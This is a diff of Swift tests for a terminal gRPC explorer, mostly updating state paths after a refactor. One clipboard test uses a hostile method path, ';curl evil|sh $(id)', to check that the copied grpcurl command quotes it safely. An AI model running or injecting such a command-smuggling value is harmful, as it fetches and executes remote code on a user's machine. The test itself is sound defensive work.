@@ -83,7 +83,7 @@ import WireFormat
     #expect(scenario.press(.control("s")).isEmpty, "nothing is sent")
     #expect(scenario.state.notice?.hasPrefix("not sent: (line 2, column") == true)
     #expect(scenario.state.composer.editor.cursor.line == 1, "the cursor goes to the error")
-    #expect(scenario.state.calls.isEmpty)
+    #expect(scenario.state.transcript.calls.isEmpty)
     // A value of the wrong kind names its JSON path.
     scenario.press(.end, .backspace, .backspace, .backspace, .backspace)
     scenario.type("12,")
@@ -104,7 +104,7 @@ import WireFormat
     scenario.press(.enter)
     scenario.state.composer.fill(with: #"{"id": "kept"}"#)
     scenario.press(.backTab, .down)
-    #expect(scenario.state.currentMethod?.name == "ServerStream")
+    #expect(scenario.state.tree.current?.name == "ServerStream")
     scenario.press(.enter)
     #expect(!scenario.state.composer.text.contains("kept"), "another method, its own text")
     scenario.press(.backTab, .up, .enter)
@@ -118,7 +118,7 @@ import WireFormat
       RequestDraft(typeName: "kitchensink.Order", json: #"{"id":"from history"}"#), shown: "")
     _ = later.state.update(.historyLoaded([old], skipped: 0, total: 1))
     later.press(.down, .down, .down, .down)
-    #expect(later.state.currentMethod?.name == "Fail")
+    #expect(later.state.tree.current?.name == "Fail")
     later.press(.enter)
     #expect(later.state.composer.text == "{\n  \"id\": \"from history\"\n}")
   }
@@ -126,7 +126,7 @@ import WireFormat
   @Test func aClientStreamSendsEachMessageOnTheOpenStreamAndCountsThem() throws {
     var scenario = try Self.kitchenSink()
     scenario.press(.down, .down, .down)
-    #expect(scenario.state.currentMethod?.name == "Bidi")
+    #expect(scenario.state.tree.current?.name == "Bidi")
     scenario.press(.enter)
     scenario.state.composer.fill(with: #"{"id": "1"}"#)
     let first = RequestDraft(typeName: "kitchensink.Order", json: "{\n  \"id\": \"1\"\n}")
@@ -161,7 +161,7 @@ import WireFormat
     greeter.type("Ada")
     greeter.press(.home)
     #expect(greeter.press(.control("e")).isEmpty)
-    #expect(greeter.state.input.cursor == 3)
+    #expect(greeter.state.prompt.editor.cursor == 3)
   }
 
   @Test func aPasteKeepsItsLinesAndEditPutsACallsRequestBack() throws {
@@ -231,12 +231,12 @@ import WireFormat
     scenario.press(.enter)
     scenario.type("Ada")
     scenario.press(.enter)
-    #expect(scenario.state.calls[0].sentHeaders == ["x-user: Ada", "trace-bin: AAEC"])
+    #expect(scenario.state.transcript.calls[0].sentHeaders == ["x-user: Ada", "trace-bin: AAEC"])
     _ = scenario.state.update(
       .call(id: 1, .trailers(["grpc-status": "0", "echo-x-user": "Ada"])))
     scenario.press(.tab, .character("h"))
     #expect(scenario.state.overlay == .headers(callID: 1))
-    let text = scenario.state.headersText(of: scenario.state.calls[0])
+    let text = scenario.state.headersText(of: scenario.state.transcript.calls[0])
     #expect(text.contains("  x-user: Ada\n  trace-bin: AAEC\n  deadline 2.5 s (grpc-timeout)"))
     #expect(text.contains("Trailers:\n  grpc-status: 0\n  echo-x-user: Ada"), "\(text)")
     scenario.press(.escape, .character("g"))
@@ -258,7 +258,7 @@ import WireFormat
     #expect(scenario.press(.control("s")).isEmpty)
     #expect(scenario.text.contains("key-bin is a binary header: its value must be base64"))
     scenario.press(.escape)
-    #expect(scenario.state.overlay == nil && scenario.state.requestSettings.isEmpty)
+    #expect(scenario.state.overlay == nil && scenario.state.title.requestSettings.isEmpty)
   }
 }
 
@@ -283,7 +283,7 @@ import WireFormat
     ]
     _ = scenario.state.update(.historyLoaded([old], skipped: 0, total: 1))
     scenario.press(.up)
-    #expect(scenario.state.shownCallIndex == 0)
+    #expect(scenario.state.transcript.shownCallIndex == 0)
     #expect(scenario.press(.character("g")).isEmpty)
     #expect(scenario.state.notice == "not copied: the command holds control characters")
   }
@@ -338,7 +338,7 @@ extension RequestSettingsTests {
     scenario.press(.function(4), .control("u"))
     scenario.type("127.0.0.1:50099")
     #expect(scenario.press(.enter) == [.setTarget("127.0.0.1:50099")])
-    #expect(scenario.state.requestSettings.isEmpty)
+    #expect(scenario.state.title.requestSettings.isEmpty)
   }
 
   @Test func headersTheClientSetsOrHTTP2ForbidsAndNonDecimalDeadlinesAreRefused() {
@@ -377,16 +377,17 @@ extension RequestSettingsTests {
 extension ClipboardTests {
   @Test func aHostileMethodNameIsQuotedInTheCommand() {
     var scenario = Scenario()
-    scenario.state.methods = [
+    // A schema without the method, then the method alone in the tree.
+    _ = scenario.state.update(.catalog(Catalog()))
+    scenario.state.tree.replace(methods: [
       ExplorerState.Method(name: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary)
-    ]
-    scenario.state.catalog = Catalog()
+    ])
     var call = CallRecord(
       id: 1, method: "x", path: "/svc/x;curl evil|sh $(id)", kind: .unary, startNanos: 0)
     call.drafts = [RequestDraft(typeName: "t", json: "{}")]
     _ = scenario.state.update(.historyLoaded([call], skipped: 0, total: 1))
     #expect(
-      scenario.state.grpcurlCommand(for: scenario.state.calls[0])
+      scenario.state.grpcurlCommand(for: scenario.state.transcript.calls[0])
         == "grpcurl -plaintext -d '{}' 127.0.0.1:50051 'svc/x;curl evil|sh $(id)'")
   }
 }
@@ -394,13 +395,13 @@ extension ClipboardTests {
 extension ComposerTests {
   @Test func aTurnOneRowOverTheFoldIsShownAndAWholeOneIsCapped() {
     let nine = (1...9).map { "line \($0)" }.joined(separator: "\n")
-    #expect(ExplorerState.bubble("◂ ", nine, width: 40, whole: false).count == 9)
+    #expect(Transcript.bubble("◂ ", nine, width: 40, whole: false).count == 9)
     let ten = nine + "\nline 10"
-    let folded = ExplorerState.bubble("◂ ", ten, width: 40, whole: false)
+    let folded = Transcript.bubble("◂ ", ten, width: 40, whole: false)
     #expect(folded.count == 9 && folded.last?.folded == true)
     let huge = String(repeating: "x\n", count: 5000)
-    let whole = ExplorerState.bubble("◂ ", huge, width: 40, whole: true)
-    #expect(whole.count == ExplorerState.wholeRows + 1)
+    let whole = Transcript.bubble("◂ ", huge, width: 40, whole: true)
+    #expect(whole.count == Transcript.wholeRows + 1)
     #expect(whole.last?.text.hasPrefix("⋯ the first 2000 rows") == true)
   }
 }
